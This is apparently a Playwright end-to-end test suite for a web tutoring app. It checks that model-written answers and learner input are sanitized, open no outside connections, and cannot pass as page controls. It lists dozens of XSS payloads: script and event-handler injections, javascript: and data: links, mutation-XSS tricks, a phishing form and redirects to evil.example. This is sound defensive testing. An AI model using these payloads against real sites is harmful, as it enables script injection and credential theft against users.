"""What a model writes never runs, never dresses up as the page, and never calls another host."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect
from tests.e2e.conftest import Visit
from tests.fakes.scripted_model import Script, ScriptedModel

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "![x](javascript:window.hit=1)",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<a href=javascript:window.hit=1>press</a>",
    "[press](javascript:window.hit=1)",
    "[press](JaVaScRiPt&colon;window.hit=1)",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[press](vbscript:window.hit)",
    '[press](https://good.example "\\" onmouseover=window.hit=1")',
    '<a href="https://good.example" onclick="window.hit=1" class="button button--main">Sign in</a>',
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">covered</div>',
    '<span class="skip" data-action="close-dialog" id="composer">mine</span>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=javascript:window.hit=1></object>",
    "<template><script>window.hit=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "```html\n<script>window.hit=1</script>\n```",
    "```<img/src=x/onerror=window.hit=1>\ncode\n```",
    "`<img src=x onerror=window.hit=1>`",
    "\\(\\href{javascript:window.hit=1}{x}\\)",
    "\\(\\htmlStyle{position:fixed}{x}\\) \\(\\includegraphics{https://evil.example/x.png}\\)",
    '$$\\unicode{x3c}script>window.hit=1</script>$$ \\("><img src=x onerror=window.hit=1>\\)',
    "\\(" + "\\def\\a{\\a\\a}\\a" + "\\)",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | 2 |",
    "- [ ] <b onclick=window.hit=1>item</b>",
    '<!--<img src="--><img src=x onerror=window.hit=1>">',
    "<x-y onpointerenter=window.hit=1 hx-get=/sign-out hx-trigger=load>z</x-y>",
)

TAGS = (
    "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HR I KBD LI OL P PRE S SPAN STRONG "
    "SUB SUP TABLE TBODY TD TH THEAD TR U UL SVG USE"
)

SURVEY = """(tags) => {
  const known = new Set(tags.split(' '));
  const suspicious = (name, value) =>
    /^(on|hx-)|^(style|id|name|src|srcdoc|action)$/.test(name) ||
    (name === 'data-action' && value !== 'copy-code') ||
    (name === 'href' && !/^(https?:|mailto:|[/]static[/])/.test(value)) ||
    (name === 'class' && /skip|button--|notice|dialog/.test(value));
  return [...document.querySelectorAll('#turns .prose *, #turns .question *')]
    .filter((node) => !node.closest('.katex, .katex-display'))
    .filter((node) => !known.has(node.tagName.toUpperCase())
      || [...node.attributes].some(({ name, value }) => suspicious(name, value)))
    .map((node) => node.outerHTML);
}"""
"""What stands in the lesson and is not on the list of harmless nodes; KaTeX's own nodes are its own."""


@pytest.mark.parametrize("piece_length", [1, 7, 10_000])
def test_nothing_in_an_answer_runs(lesson: Visit, model: ScriptedModel, piece_length: int) -> None:
    asked: list[str] = []
    lesson.page.on("request", lambda request: asked.append(request.url))
    lesson.page.on("dialog", lambda dialog: dialog.dismiss())
    model.scripts = {"everything": Script("\n\n".join(PAYLOADS), piece_length=piece_length)}
    lesson.ask_and_wait("Show me everything")
    for link in lesson.page.locator(".prose a", has_text="press").all():
        link.click(modifiers=["Alt"], no_wait_after=True)
    for _ in range(2):
        assert lesson.page.evaluate(SURVEY, TAGS) == []
        assert lesson.page.evaluate("window.hit") is None
        assert [url for url in asked if not url.startswith((lesson.url, "data:"))] == []
        expect(lesson.page.locator(".prose").last).to_contain_text("<script>window.hit=1</script>")
        lesson.page.reload()
        expect(lesson.page.locator(".prose[data-drawn]")).to_be_visible()


def test_links_open_elsewhere_and_tell_nothing(lesson: Visit, model: ScriptedModel) -> None:
    model.scripts = {"link": Script("See [the page](https://example.org/a) for more.")}
    lesson.ask_and_wait("A link?")
    link = lesson.page.get_by_role("link", name="the page")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")


def test_nothing_that_a_learner_writes_runs(lesson: Visit) -> None:
    lesson.ask_and_wait("\n\n".join(PAYLOADS))
    assert lesson.page.evaluate(SURVEY, TAGS) == []
    lesson.page.reload()
    expect(lesson.page.locator(".question[data-drawn]")).to_be_visible()
    assert lesson.page.evaluate(SURVEY, TAGS) == []
    assert lesson.page.evaluate("window.hit") is None
